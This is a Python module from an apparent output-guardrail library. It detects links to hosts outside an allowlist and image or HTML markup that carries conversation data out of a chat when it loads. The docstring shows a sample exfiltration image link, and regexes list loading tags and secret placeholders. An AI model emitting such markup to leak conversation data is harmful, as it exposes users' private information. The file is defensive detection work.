"""Links to hosts that are not allowed, and markup that carries data out of a conversation. Pure.

An image is fetched without a click, so an answer with `![](https://elsewhere/?q=what-the-model-knows)` hands data over as soon as it is
shown. Such markup is found whatever is allowed, unless its host is. The original text is read, because a host with a look-alike letter is
another host.
"""

import re
from collections.abc import Iterable, Sequence
from typing import Final

from guardrails.ports import Finding, Scanned
from guardrails.rules.gate import Gate
from guardrails.text import BREAKS, Encoded, decoded_spans, last_break

VERSION: Final = "links 1"
_BREAKS: Final = BREAKS + "'"
MARKUP_CHARS: Final = 300
"""How far in front of an address the markup may begin that makes it an image."""
LOADED_DATA_CHARS: Final = 12
"""Characters of a query, fragment or user name with which a loaded address carries data out: less says nothing but a size or a style."""
CLICKED_DATA_CHARS: Final = 160
"""The same for a link that somebody has to click."""

_GATE: Final = r"(?i:(?:https?|ftps?|wss?):)[/\\]{1,4}|[(\"'=<]\s?[/\\]{2}[A-Za-z0-9\[]|(?i:\bwww\.)[A-Za-z0-9]"
_ADDRESS: Final = re.compile(
    r"(?:(?:https?|ftps?|wss?):)?(?:[/\\]{1,4}|(?=www\.))(?P<authority>[^\s/\\?#\"'<>`)]{1,300})(?P<rest>(?:[^\s\"'<>`\\^|)]|\)(?![\[!(]))*)",
    re.IGNORECASE,
)
_LOADED: Final = re.compile(r"(?:!\[[^\]]*\]\(\s*<?|url\(\s*[\"']?|(?:^|\n)\s{0,3}\[[^\]]{1,80}\]:\s*<?)$", re.IGNORECASE)
_LOADING_TAG: Final = re.compile(
    r"<(?:img|image|iframe|script|link|video|audio|source|embed|object|svg|use|input|body|table|td|track|frame|meta|base|form)\b[^>]*"
    r"\b(?:src|srcset|href|data|poster|background|action|content)\s*=\s*[\"']?(?:[^\"'>]*\s)?$",
    re.IGNORECASE,
)
_OPENERS: Final = ("(", "<", '"', "'", "=", ":", ",")
"""What stands right in front of an address that markup loads; asked first, because most addresses stand in plain text."""
_SECRET_PLACE: Final = re.compile(
    r"\$\{|%7b|\{\{|\{[a-z_ ]+\}|\[(?:data|secret|conversation|history|summary|user|prompt)[^\]]*\]", re.IGNORECASE
)


class Links:
    """Finds addresses outside an allowlist, and markup that carries data out.

    Args:
        rule: the id of the rule.
        allow: domains that addresses may lead to: `example.com` for that host, `*.example.com` for all below it. Without any, every host
            may be linked to, and only markup that carries data out is found.
        longest_address: characters of an address that are looked at; a stream holds back that much.

    Findings are of the kind `exfiltration` or `link`.

    Raises:
        ValueError: a domain is none.
    """

    version = VERSION
    before = MARKUP_CHARS
    stirred_by = ("", r"/\\.", r":[/\\]|[/\\][/\\]|[wW][wW][wW]\.")
    """What an address has before its first blank."""

    def __init__(self, rule: str, allow: Iterable[str] = (), *, longest_address: int = 1024) -> None:
        domains = [domain.casefold().rstrip(".") for domain in allow]
        for domain in domains:
            if not re.fullmatch(r"(?:\*\.)?[^\s/:@*]+", domain):
                raise ValueError(f"{domain!r} is no domain; write example.com, or *.example.com for all below it")
        self._rule = rule
        self._hosts = frozenset(domain for domain in domains if not domain.startswith("*."))
        self._below = tuple(domain[1:] for domain in domains if domain.startswith("*."))
        self._longest_address = longest_address
        self._gate = Gate([_GATE])

    @property
    def id(self) -> str:
        return self._rule

    @property
    def longest(self) -> int:
        return self._longest_address + MARKUP_CHARS

    def opens_at(self, text: Scanned) -> int:
        """An address ends at a blank or a quotation mark."""
        return last_break(text.original, _BREAKS)

    def scan(self, text: Scanned) -> Sequence[Finding]:
        form = text.original
        encoded = Encoded(form)
        found: list[Finding] = []
        place = self._gate.first(encoded.data, 0)
        while place is not None:
            byte = place[0]
            opened = at = encoded.char(byte)
            if form[at] in "(\"'=<":
                at += 1 + form[at + 1].isspace()
            match = _ADDRESS.match(form, at, at + self._longest_address)
            if match is None:
                place = self._gate.first(encoded.data, byte + 1)
                continue
            kind = self._judged(form, match)
            if kind is not None:
                found.append(Finding(self._rule, kind, match.start(), match.end()))
            # an address inside another one is part of it
            place = self._gate.first(encoded.data, byte + len(form[opened : match.end()].encode("utf-8", "replace")))
        return found

    def allowed(self, host: str) -> bool:
        """Whether an address may lead to a host."""
        return host in self._hosts or host.endswith(self._below)

    def _judged(self, form: str, match: re.Match[str]) -> str | None:
        """What is wrong with an address; None for nothing."""
        user, _, place = match["authority"].rpartition("@")
        host = (place if place.startswith("[") else place.partition(":")[0]).casefold().rstrip(".")
        if self.allowed(host):
            return None
        before = form[max(0, match.start() - MARKUP_CHARS) : match.start()]
        rest = match["rest"].rstrip(").,;")
        loaded = _is_loaded(before)
        data = user + rest.partition("?")[2] + rest.partition("#")[2] * ("?" not in rest)
        limit = LOADED_DATA_CHARS if loaded else CLICKED_DATA_CHARS
        if len(data) >= limit or (loaded and (_SECRET_PLACE.search(rest) or _speaks(user + rest))):
            return "exfiltration"
        return "link" if self._hosts or self._below else None


def _is_loaded(before: str) -> bool:
    """Whether markup in front of an address makes it one that is fetched without a click."""
    bare = before.rstrip()
    if bare[-1:] not in _OPENERS:
        return False
    if bare.rstrip("<\"' \t\r\n")[-1:] in ("(", ":") and _LOADED.search(before) is not None:
        return True
    return "<" in before and _LOADING_TAG.search(before) is not None


def _speaks(rest: str) -> bool:
    """Whether a path has encoded words in it."""
    return any(" " in span.text for span in decoded_spans(rest.replace("/", " ")))
